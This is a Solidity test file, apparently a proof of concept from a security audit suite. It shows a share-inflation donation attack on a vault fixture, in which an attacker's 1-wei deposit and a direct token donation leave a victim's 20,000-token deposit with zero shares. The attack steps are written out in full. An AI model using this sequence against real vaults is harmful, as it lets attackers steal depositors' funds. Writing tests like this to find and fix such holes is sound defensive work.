// SPDX-License-Identifier: MIT
pragma solidity 0.8.28;

import {Fixture} from "../harness/Fixture.sol";
import {VM} from "../harness/Vm.sol";

/// @notice The first depositor holds one wei of shares, donates, and the next deposit mints nothing.
contract ShareInflation is Fixture {
    function test_donationTakesTheNextDeposit() external {
        address attacker = makeAddr("attacker");
        address victim = makeAddr("victim");
        uint256 stake = 20_000e18;

        _deposit(attacker, 1);
        usd.mint(attacker, stake);
        VM.prank(attacker);
        assertTrue(usd.transfer(address(vault), stake), "the donation failed");

        uint256 shares = _deposit(victim, stake);
        assertEq(shares, 0, "the victim received shares");

        VM.prank(attacker);
        vault.withdraw(2 * stake);
        emit log_named_decimal_uint("lost by the victim, mUSD", usd.balanceOf(attacker) - stake, 18);
        assertEq(usd.balanceOf(attacker), 2 * stake, "the attacker did not leave with both stakes");
    }
}
